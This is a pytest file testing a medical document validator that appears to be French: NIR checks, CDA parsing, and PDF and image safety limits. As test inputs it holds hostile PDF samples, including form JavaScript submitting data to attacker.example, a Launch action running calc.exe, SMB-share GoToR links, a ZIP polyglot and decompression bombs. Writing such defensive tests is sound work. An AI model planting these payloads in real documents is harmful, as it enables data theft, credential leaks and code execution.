"""Basic validation: metadata, type sniffing, PDF and CDA checks, each with its reason code."""

import datetime as dt
import io
import struct
import zlib

import pytest
from fpdf import FPDF
from pypdf import PdfWriter

from pipeline.core.identity import with_key
from pipeline.core.reasons import Rejected
from pipeline.documents.classify import classify
from pipeline.documents.inspect import InspectLimits, inspect_file
from pipeline.documents.validate import check_metadata
from tests.hostile import corpus, images, rawpdf

NIR = with_key("2900113055123")
TODAY = dt.date(2026, 1, 15)
LIMITS = InspectLimits(max_pdf_pages=100, max_decompressed_bytes=10 * 1024 * 1024)


def check_content(path, filename, ins):
    return inspect_file(path, filename, ins, LIMITS, want_text=True)


def _fields(**overrides):
    fields = {
        "patient_ins": NIR,
        "source_document_id": "S1",
        "service_date": "2025-12-01",
        "author_id": "1",
        "author_profession": "physician",
    }
    fields.update(overrides)
    return fields


def _reason(call):
    with pytest.raises(Rejected) as caught:
        call()
    return caught.value.reason


@pytest.fixture
def pdf_path(tmp_path):
    pdf = FPDF()
    pdf.add_page()
    pdf.set_font("Helvetica", size=12)
    pdf.cell(text="Compte rendu de biologie")
    path = tmp_path / "doc.pdf"
    pdf.output(str(path))
    return path


def test_good_metadata_is_parsed():
    meta = check_metadata(_fields(), TODAY)
    assert (meta.ins, meta.service_date) == (NIR, dt.date(2025, 12, 1))


def test_a_nir_with_a_wrong_key_is_invalid_ins():
    assert _reason(lambda: check_metadata(_fields(patient_ins=NIR[:13] + "00"), TODAY)) == "invalid_ins"


@pytest.mark.parametrize("date", ["2026-01-16", "15/01/2025", ""])
def test_a_future_or_unparsable_service_date_is_invalid_metadata(date):
    assert _reason(lambda: check_metadata(_fields(service_date=date), TODAY)) == "invalid_metadata"


def test_a_pdf_is_accepted_with_its_page_count_and_text(pdf_path):
    content = check_content(pdf_path, "doc.pdf", NIR)
    assert (content.mime_type, content.pages) == ("application/pdf", 1)
    assert "Compte rendu de biologie" in content.text


def test_a_truncated_pdf_is_pdf_corrupt(pdf_path, tmp_path):
    cut = tmp_path / "cut.pdf"
    cut.write_bytes(pdf_path.read_bytes()[: pdf_path.stat().st_size // 2])
    assert _reason(lambda: check_content(cut, "cut.pdf", NIR)) == "pdf_corrupt"


def test_a_pdf_named_as_an_image_is_type_mismatch(pdf_path):
    assert _reason(lambda: check_content(pdf_path, "scan.png", NIR)) == "type_mismatch"


def test_xml_that_is_not_cda_is_unsupported_type(tmp_path):
    path = tmp_path / "note.xml"
    path.write_text('<?xml version="1.0"?><note><to>x</to></note>')
    assert _reason(lambda: check_content(path, "note.xml", NIR)) == "unsupported_type"


def test_a_cda_whose_patient_nir_has_a_bad_key_is_invalid_ins(tmp_path):
    path = tmp_path / "cda.xml"
    path.write_text(_cda(NIR[:13] + f"{(int(NIR[13:]) % 97) + 1:02d}"))
    assert _reason(lambda: check_content(path, "cda.xml", NIR)) == "invalid_ins"


def test_an_unknown_binary_is_unsupported_type(tmp_path):
    path = tmp_path / "blob"
    path.write_bytes(b"\x7fELF\x02\x01\x01" + bytes(200))
    assert _reason(lambda: check_content(path, "blob", NIR)) == "unsupported_type"


def _cda(ins: str) -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8"?><ClinicalDocument xmlns="urn:hl7-org:v3">'
        '<code code="11502-2" codeSystem="2.16.840.1.113883.6.1"/>'
        f'<recordTarget><patientRole><id root="1.2.250.1.213.1.4.8" extension="{ins}"/></patientRole></recordTarget>'
        "</ClinicalDocument>"
    )


def test_a_cda_document_gives_its_code(tmp_path):
    path = tmp_path / "cda.xml"
    path.write_text(_cda(NIR))
    assert check_content(path, "cda.xml", NIR).cda_code == "11502-2"


def test_a_cda_for_another_patient_is_patient_mismatch(tmp_path):
    path = tmp_path / "cda.xml"
    path.write_text(_cda(with_key("1850575123456")))
    assert _reason(lambda: check_content(path, "cda.xml", NIR)) == "patient_mismatch"


def test_xml_with_entities_is_a_forbidden_construct(tmp_path):
    path = tmp_path / "bomb.xml"
    path.write_text('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x "xx">]><a>&x;</a>')
    assert _reason(lambda: check_content(path, "bomb.xml", NIR)) == "xml_forbidden_construct"


def test_malformed_xml_is_xml_malformed(tmp_path):
    path = tmp_path / "bad.xml"
    path.write_text('<?xml version="1.0"?><a><b></a>')
    assert _reason(lambda: check_content(path, "bad.xml", NIR)) == "xml_malformed"


def test_xml_declaring_an_unknown_encoding_is_xml_malformed(tmp_path):
    # Found by the hypothesis mutation test: the parser raises LookupError for an encoding it does not know.
    path = tmp_path / "odd.xml"
    path.write_text('<?xml version="1.0" encoding="U-F-8"?><ClinicalDocument xmlns="urn:hl7-org:v3"/>')
    assert _reason(lambda: check_content(path, "odd.xml", NIR)) == "xml_malformed"


# ---------------------------------------------------------------------------------------------
# PDFs a reader opens are let in; what a viewer would run, fetch or decode past bounds is not


def _pdf_file(tmp_path, data: bytes, name: str = "doc.pdf"):
    path = tmp_path / name
    path.write_bytes(data)
    return path


def _image_page(image: bytes) -> bytes:
    return rawpdf.page_pdf(resources=b"/XObject << /Im1 6 0 R >>", more=[image])


def test_a_jbig2_scan_is_accepted_without_decoding_its_image(tmp_path):
    jbig2 = rawpdf.stream(
        bytes(range(256)) * 4, b"/Type /XObject /Subtype /Image /Width 2480 /Height 3508 /BitsPerComponent 1 /Filter /JBIG2Decode "
    )
    assert check_content(_pdf_file(tmp_path, _image_page(jbig2)), "scan.pdf", NIR).pages == 1


def test_a_large_flate_image_is_counted_as_stored_not_inflated_past_pypdfs_stream_limit(tmp_path):
    side = 5100  # 78 MB of RGB once inflated: over pypdf's 75 MB per stream, under our limit
    entries = b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /FlateDecode " % (
        side,
        side,
    )
    image = rawpdf.stream(rawpdf.deflated_zeros(side * side * 3), entries)
    assert check_content(_pdf_file(tmp_path, _image_page(image)), "scan.pdf", NIR).pages == 1


def test_an_image_of_more_pixels_than_the_limit_makes_the_pdf_too_large(tmp_path):
    image = rawpdf.stream(b"\x00" * 64, b"/Subtype /Image /Width 20000 /Height 20000 /BitsPerComponent 1 /Filter /JBIG2Decode ")
    assert _reason(lambda: check_content(_pdf_file(tmp_path, _image_page(image)), "scan.pdf", NIR)) == "pdf_too_large"


def test_a_page_whose_text_cannot_be_read_is_accepted_without_text(tmp_path):
    broken = rawpdf.page_pdf(contents=b"BT /F1 12 Tf 72 720 Td [(Compte) 0 Tc (rendu)] TJ ET")
    content = check_content(_pdf_file(tmp_path, broken), "doc.pdf", NIR)
    assert (content.pages, content.text) == (1, "")


def test_text_extraction_stops_at_its_time_budget_and_the_document_stays(tmp_path):
    limits = InspectLimits(max_pdf_pages=100, max_decompressed_bytes=10 * 1024 * 1024, text_seconds=0)
    content = inspect_file(_pdf_file(tmp_path, rawpdf.page_pdf()), "doc.pdf", NIR, limits, want_text=True)
    assert (content.pages, content.text) == (1, "")


def test_bytes_after_the_last_eof_marker_are_ignored(tmp_path):
    padded = rawpdf.page_pdf() + b"\x00" * 4096 + b"-- signature block --\n" * 100
    assert check_content(_pdf_file(tmp_path, padded), "doc.pdf", NIR).pages == 1


def test_bytes_before_the_pdf_header_are_ignored(tmp_path):
    prefixed = b"Content-Type: application/pdf\r\nX-Mailer: hospital\r\n\r\n" + rawpdf.page_pdf()
    content = check_content(_pdf_file(tmp_path, prefixed), "doc.pdf", NIR)
    assert content.pages == 1 and "Compte rendu de biologie" in content.text


def test_an_executable_with_a_pdf_inside_stays_refused(tmp_path):
    assert (
        _reason(lambda: check_content(_pdf_file(tmp_path, b"MZ\x90\x00" + bytes(200) + rawpdf.page_pdf()), "doc.pdf", NIR))
        == "type_mismatch"
    )


def test_abbreviated_filter_names_are_read(tmp_path):
    text = zlib.compress(rawpdf.PAGE_TEXT)
    abbreviated = rawpdf.page_pdf(contents=text, content_entries=b"/Filter /Fl ")
    content = check_content(_pdf_file(tmp_path, abbreviated), "doc.pdf", NIR)
    assert "Compte rendu de biologie" in content.text


@pytest.mark.slow  # a PDF past the reader's limits
def test_a_limit_of_the_pdf_reader_is_named_as_such(tmp_path):
    huge = rawpdf.stream(rawpdf.deflated_zeros(80 * 1024 * 1024), b"/Filter /FlateDecode ")  # a form of 80 MB: pypdf stops at 75
    pdf = rawpdf.page_pdf(resources=b"/XObject << /X1 6 0 R >>", more=[huge])
    limits = InspectLimits(max_pdf_pages=100, max_decompressed_bytes=256 * 1024 * 1024)
    with pytest.raises(Rejected) as caught:
        inspect_file(_pdf_file(tmp_path, pdf), "doc.pdf", NIR, limits, want_text=False)
    assert caught.value.reason == "pdf_too_large"
    assert "reader's limits" in caught.value.message and "Decompressed content exceeds" not in caught.value.message


def test_a_pdf_encrypted_with_an_empty_user_password_opens(tmp_path):
    writer = PdfWriter(clone_from=io.BytesIO(rawpdf.page_pdf()))
    writer.encrypt(user_password="", owner_password="owner-only", permissions_flag=0, algorithm="AES-256")
    buffer = io.BytesIO()
    writer.write(buffer)
    content = check_content(_pdf_file(tmp_path, buffer.getvalue()), "doc.pdf", NIR)
    assert content.pages == 1 and "Compte rendu de biologie" in content.text


def test_a_pdf_needing_a_password_stays_refused(tmp_path):
    writer = PdfWriter(clone_from=io.BytesIO(rawpdf.page_pdf()))
    writer.encrypt(user_password="secret", owner_password="owner", algorithm="AES-256")
    buffer = io.BytesIO()
    writer.write(buffer)
    assert _reason(lambda: check_content(_pdf_file(tmp_path, buffer.getvalue()), "doc.pdf", NIR)) == "pdf_encrypted"


def test_an_empty_javascript_entry_is_not_active_content(tmp_path):
    empty = rawpdf.page_pdf(catalog=b"/Names << /JavaScript << /Names [] >> >> /OpenAction << /S /JavaScript /JS ( ) >>")
    assert check_content(_pdf_file(tmp_path, empty), "doc.pdf", NIR).pages == 1


FIELD = b"<< /FT /Tx /T (dose) /Rect [72 600 300 620] /P 3 0 R /Subtype /Widget /AA << /F 7 0 R /K 8 0 R >> >>"


def _form(format_script: bytes, keystroke_script: bytes) -> bytes:
    action = b"<< /S /JavaScript /JS (%s) >>"
    return rawpdf.page_pdf(
        catalog=b"/AcroForm << /Fields [6 0 R] >>",
        page=b"/Annots [6 0 R]",
        more=[FIELD, action % format_script, action % keystroke_script],
    )


def test_a_form_fields_built_in_format_declaration_is_accepted(tmp_path):
    form = _form(b'AFNumber_Format\\(2, 0, 0, 0, "mg", true\\);', b'AFNumber_Keystroke\\(2, 0, 0, 0, "mg", true\\);')
    assert check_content(_pdf_file(tmp_path, form), "cerfa.pdf", NIR).pages == 1


@pytest.mark.parametrize(
    "script",
    [
        b"app.launchURL\\('http://attacker.example/'\\);",
        b'AFNumber_Format\\(2, 0, 0, 0, "mg", true\\); this.submitForm\\("http://attacker.example/"\\);',
        b"AFNumber_Format\\(eval\\(event.value\\)\\);",
    ],
)
def test_a_form_script_doing_anything_else_is_active_content(tmp_path, script):
    form = _form(script, b'AFNumber_Keystroke\\(2, 0, 0, 0, "", true\\);')
    assert _reason(lambda: check_content(_pdf_file(tmp_path, form), "cerfa.pdf", NIR)) == "pdf_active_content"


def test_an_action_kind_behind_a_reference_is_still_read(tmp_path):
    launch = rawpdf.page_pdf(catalog=b"/OpenAction << /S 6 0 R /F (calc.exe) >>", more=[b"/Launch"])
    assert _reason(lambda: check_content(_pdf_file(tmp_path, launch), "doc.pdf", NIR)) == "pdf_active_content"


def test_a_non_action_s_entry_holding_a_stream_is_not_an_action(tmp_path):
    pdf = rawpdf.page_pdf(catalog=b"/Extra << /S 6 0 R >>", more=[rawpdf.stream(b"q Q")])
    assert check_content(_pdf_file(tmp_path, pdf), "doc.pdf", NIR).pages == 1


def test_image_dimensions_behind_references_are_still_read(tmp_path):
    image = rawpdf.stream(b"\x00" * 64, b"/Subtype /Image /Width 7 0 R /Height 7 0 R /BitsPerComponent 1 /Filter /JBIG2Decode ")
    pdf = rawpdf.page_pdf(resources=b"/XObject << /Im1 6 0 R >>", more=[image, b"20000"])
    assert _reason(lambda: check_content(_pdf_file(tmp_path, pdf), "scan.pdf", NIR)) == "pdf_too_large"


def test_a_repeated_dictionary_key_is_pdf_ambiguous(tmp_path):
    pdf = _pdf_file(tmp_path, rawpdf.repeated_open_action_pdf())
    assert _reason(lambda: check_content(pdf, "doc.pdf", NIR)) == "pdf_ambiguous"


def test_a_repeated_opening_display_is_harmless(tmp_path):
    pdf = _pdf_file(tmp_path, rawpdf.page_pdf(catalog=b"/PageMode /UseNone /PageMode /UseOutlines"))
    assert check_content(pdf, "doc.pdf", NIR).pages == 1


def test_a_script_in_an_xfa_form_is_active_content(tmp_path):
    assert _reason(lambda: check_content(_pdf_file(tmp_path, rawpdf.xfa_script_pdf()), "doc.pdf", NIR)) == "pdf_active_content"


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        (b"/GoToR", b"(\\\\\\\\attacker.example\\\\share\\\\cr.pdf)"),
        (b"/GoToR", b"(/attacker.example/share/cr.pdf)"),
        (b"/GoToR", b"<< /FS /URL /F (smb://attacker.example/share/cr.pdf) >>"),
        (b"/URI", b"(file://attacker.example/share/cr.pdf)"),
        (b"/URI", b"(\\\\\\\\attacker.example\\\\share)"),
    ],
)
def test_an_action_reaching_a_file_share_is_active_content(tmp_path, kind, target):
    pdf = _pdf_file(tmp_path, rawpdf.remote_action_pdf(kind, target))
    assert _reason(lambda: check_content(pdf, "doc.pdf", NIR)) == "pdf_active_content"


@pytest.mark.parametrize(("kind", "target"), [(b"/GoToR", b"(annexe.pdf)"), (b"/URI", b"(https://www.has-sante.fr/)")])
def test_a_link_to_a_web_page_or_a_neighbour_file_is_accepted(tmp_path, kind, target):
    assert check_content(_pdf_file(tmp_path, rawpdf.remote_action_pdf(kind, target)), "doc.pdf", NIR).pages == 1


def test_a_pdf_that_is_also_a_zip_with_an_executable_is_active_content(tmp_path):
    assert _reason(lambda: check_content(_pdf_file(tmp_path, corpus.polyglot_pdf()), "doc.pdf", NIR)) == "pdf_active_content"


def test_a_pdf_that_is_also_a_zip_is_ambiguous(tmp_path):
    pdf = _pdf_file(tmp_path, corpus.polyglot_pdf("note.txt", b"Compte rendu"))
    assert _reason(lambda: check_content(pdf, "doc.pdf", NIR)) == "pdf_ambiguous"


def test_references_to_undefined_objects_read_as_null(tmp_path):
    assert check_content(_pdf_file(tmp_path, rawpdf.missing_objects_pdf(count=50)), "doc.pdf", NIR).pages == 1


def test_an_object_stream_inflating_far_beyond_the_files_size_is_too_large(tmp_path):
    pdf = _pdf_file(tmp_path, rawpdf.object_stream_flood_pdf())
    assert _reason(lambda: check_content(pdf, "doc.pdf", NIR)) == "pdf_too_large"


def test_more_objects_than_the_files_size_can_hold_is_too_large(tmp_path):
    # 60,000 zeros in 3 arrays: an object stream of 120 kB (within its own bound) from a 1.5 kB file
    pdf = _pdf_file(tmp_path, rawpdf.object_stream_flood_pdf(arrays=3, length=20_000))
    with pytest.raises(Rejected) as caught:
        check_content(pdf, "doc.pdf", NIR)
    assert caught.value.reason == "pdf_too_large" and "objects" in caught.value.message


# ---------------------------------------------------------------------------------------------
# Images: dimensions read from the header


def test_a_png_announcing_more_pixels_than_the_limit_is_image_too_large(tmp_path):
    corpus.write_huge_png(tmp_path / "scan.png", side=15_000)
    assert _reason(lambda: check_content(tmp_path / "scan.png", "scan.png", NIR)) == "image_too_large"


def test_a_jpeg_announcing_more_pixels_than_the_limit_is_image_too_large(tmp_path):
    data = bytearray(images.jpeg_bytes())
    sof = data.find(b"\xff\xc0")
    data[sof + 5 : sof + 9] = struct.pack(">HH", 60_000, 60_000)  # height, width
    (tmp_path / "photo.jpg").write_bytes(bytes(data))
    assert _reason(lambda: check_content(tmp_path / "photo.jpg", "photo.jpg", NIR)) == "image_too_large"


def test_a_tiff_announcing_more_pixels_than_the_limit_is_image_too_large(tmp_path):
    data = bytearray(images.tiff_bytes())  # 8 x 8; its first two tags, ImageWidth and ImageLength, made 30,000
    struct.pack_into("<H", data, 10 + 8, 30_000)
    struct.pack_into("<H", data, 10 + 12 + 8, 30_000)
    (tmp_path / "scan.tiff").write_bytes(bytes(data))
    assert _reason(lambda: check_content(tmp_path / "scan.tiff", "scan.tiff", NIR)) == "image_too_large"


def test_an_image_whose_header_cannot_be_read_is_image_corrupt(tmp_path):
    (tmp_path / "scan.png").write_bytes(images.png_bytes()[:20])
    assert _reason(lambda: check_content(tmp_path / "scan.png", "scan.png", NIR)) == "image_corrupt"


def test_a_normal_image_is_accepted(tmp_path):
    (tmp_path / "scan.png").write_bytes(images.png_bytes())
    assert check_content(tmp_path / "scan.png", "scan.png", NIR).mime_type == "image/png"


# ---------------------------------------------------------------------------------------------
# CDA: the code system goes with the code


def test_a_cda_gives_the_code_system_of_its_code(tmp_path):
    path = tmp_path / "cda.xml"
    path.write_bytes(corpus.cda_bytes(NIR, code_system=corpus.SNOMED_OID))
    content = check_content(path, "cda.xml", NIR)
    assert (content.cda_code, content.cda_code_system) == ("11502-2", corpus.SNOMED_OID)
    decision = classify(content.cda_code, None, content.title, "cda.xml", cda_code_system=content.cda_code_system)
    assert decision.rule != "cda_code" and decision.confidence < 1.0
